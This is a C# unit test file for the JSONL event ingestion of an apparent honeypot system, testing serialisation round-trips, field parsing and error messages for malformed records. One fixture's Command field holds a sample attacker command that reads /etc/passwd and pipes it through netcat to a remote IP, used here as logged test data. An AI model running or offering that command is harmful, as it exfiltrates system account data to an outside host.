using System.Text;
using Decnet.Engine.Ingest;
using static Decnet.Tests.Ingest.IngestTestData;

namespace Decnet.Tests.Ingest;

public class JsonlTests
{
    private static readonly JsonlLineParser Parser = new();

    private static DecnetEvent Full() => new()
    {
        Id = "evt-1",
        Timestamp = new DateTimeOffset(2026, 3, 4, 5, 6, 7, TimeSpan.Zero).AddTicks(1234567),
        Event = EventTypes.HttpRequest,
        SrcIp = "203.0.113.9",
        SrcPort = 40000,
        Service = "http",
        Decky = "web-01",
        Session = "s-9",
        Username = "admin",
        Password = "pa\"ss\\word\n",
        Command = "echo '<b>' && cat /etc/passwd | nc 1.2.3.4 80 # é ✓",
        SshVersion = "SSH-2.0-Go",
        Hassh = "0123456789abcdef0123456789abcdef",
        Ja3 = "771,4865-4866,0-23,29-23,0",
        UserAgent = "Mozilla/5.0",
        Url = "http://example.com/a?b=c&d=e",
        Sha256 = new string('a', 64),
        DstHost = "example.com",
        DstPort = 443,
    };

    [Test]
    public async Task WriterThenParserGivesAnEqualRecord()
    {
        var ev = Full();
        var line = JsonlEventWriter.ToLine(ev);
        await Assert.That(line[^1]).IsEqualTo((byte)'\n');
        await Assert.That(line.AsSpan(0, line.Length - 1).IndexOf((byte)'\n')).IsEqualTo(-1);
        var ok = Parser.TryParse(line, out var back, out var error);
        await Assert.That(error).IsNull();
        await Assert.That(ok).IsTrue();
        await Assert.That(back).IsEqualTo(ev);
    }

    [Test]
    public async Task MinimalRecordRoundTripsAndOmitsNulls()
    {
        var ev = new DecnetEvent { Id = "x", Timestamp = new DateTimeOffset(2026, 1, 1, 0, 0, 0, TimeSpan.FromHours(2)), Event = "login.failed", SrcIp = "10.0.0.1" };
        var text = Encoding.UTF8.GetString(JsonlEventWriter.ToLine(ev));
        await Assert.That(text).IsEqualTo("{\"id\":\"x\",\"ts\":\"2025-12-31T22:00:00Z\",\"event\":\"login.failed\",\"src_ip\":\"10.0.0.1\"}\n");
        await Assert.That(Parser.TryParse(Utf8(text), out var back, out _)).IsTrue();
        await Assert.That(back).IsEqualTo(ev);
    }

    [Test]
    public async Task StreamWriterWritesOneObjectPerLine()
    {
        using var buffer = new MemoryStream();
        using (var writer = new JsonlEventWriter(buffer, leaveOpen: true))
        {
            writer.Write(Full());
            writer.Write(Full() with { Id = "evt-2", Username = null });
            writer.Flush();
        }
        var lines = Encoding.UTF8.GetString(buffer.ToArray()).Split('\n');
        await Assert.That(lines.Length).IsEqualTo(3);
        await Assert.That(lines[2]).IsEqualTo("");
        await Assert.That(Parser.TryParse(Utf8(lines[1]), out var second, out _)).IsTrue();
        await Assert.That(second!.Id).IsEqualTo("evt-2");
        await Assert.That(second.Username).IsNull();
    }

    [Test]
    public async Task ParsesEveryFieldAndIgnoresUnknownOnes()
    {
        var line = Json("{'ts': '2026-03-04T05:06:07+02:00', 'event': 'ssh.client_version', 'src_ip': '::ffff:198.51.100.7', 'src_port': '2222', 'service': 'ssh', 'decky': 'd1', 'session': 's', 'username': 'u', 'password': 'p', 'command': 'c', 'ssh_version': 'v', 'hassh': 'h', 'ja3': 'j', 'user_agent': 'ua', 'url': 'l', 'sha256': 'sh', 'dst_host': 'dh', 'dst_port': 25, 'extra': {'deep': [1, 2, {'x': null}]}, 'more': 1.5}");
        var ok = Parser.TryParse(Utf8(line), out var ev, out _);
        await Assert.That(ok).IsTrue();
        await Assert.That(ev!.Id).IsEqualTo(EventId.FromLine(Utf8(line)));
        await Assert.That(ev.Timestamp).IsEqualTo(new DateTimeOffset(2026, 3, 4, 3, 6, 7, TimeSpan.Zero));
        await Assert.That(ev.Event).IsEqualTo("ssh.client_version");
        await Assert.That(ev.SrcIp).IsEqualTo("198.51.100.7");
        await Assert.That(ev.SrcPort).IsEqualTo(2222);
        await Assert.That(ev.Service).IsEqualTo("ssh");
        await Assert.That(ev.Decky).IsEqualTo("d1");
        await Assert.That(ev.Session).IsEqualTo("s");
        await Assert.That(ev.Username).IsEqualTo("u");
        await Assert.That(ev.Password).IsEqualTo("p");
        await Assert.That(ev.Command).IsEqualTo("c");
        await Assert.That(ev.SshVersion).IsEqualTo("v");
        await Assert.That(ev.Hassh).IsEqualTo("h");
        await Assert.That(ev.Ja3).IsEqualTo("j");
        await Assert.That(ev.UserAgent).IsEqualTo("ua");
        await Assert.That(ev.Url).IsEqualTo("l");
        await Assert.That(ev.Sha256).IsEqualTo("sh");
        await Assert.That(ev.DstHost).IsEqualTo("dh");
        await Assert.That(ev.DstPort).IsEqualTo(25);
    }

    [Test]
    [Arguments("{'ts': '2026-01-01T00:00:00Z', 'src_ip': '1.2.3.4'}", "missing field 'event'")]
    [Arguments("{'ts': '2026-01-01T00:00:00Z', 'event': 'x'}", "missing field 'src_ip'")]
    [Arguments("{'event': 'x', 'src_ip': '1.2.3.4'}", "missing field 'ts'")]
    [Arguments("{'ts': 'soon', 'event': 'x', 'src_ip': '1.2.3.4'}", "invalid timestamp in field 'ts': \"soon\"")]
    [Arguments("{'ts': '2026-01-01T00:00:00Z', 'event': 'x', 'src_ip': 'nope'}", "invalid ip in field 'src_ip': \"nope\"")]
    [Arguments("{'ts': '2026-01-01T00:00:00Z', 'event': 'x', 'src_ip': '1.2.3.4', 'dst_port': 'http'}", "invalid port in field 'dst_port'")]
    [Arguments("{'ts': '2026-01-01T00:00:00Z', 'event': 1, 'src_ip': '1.2.3.4'}", "field 'event' is not a string")]
    [Arguments("42", "not a JSON object")]
    public async Task MalformedLinesNameTheField(string line, string expected)
    {
        var ok = Parser.TryParse(Utf8(Json(line)), out var ev, out var error);
        await Assert.That(ok).IsFalse();
        await Assert.That(ev).IsNull();
        await Assert.That(error).IsEqualTo(expected);
    }
}
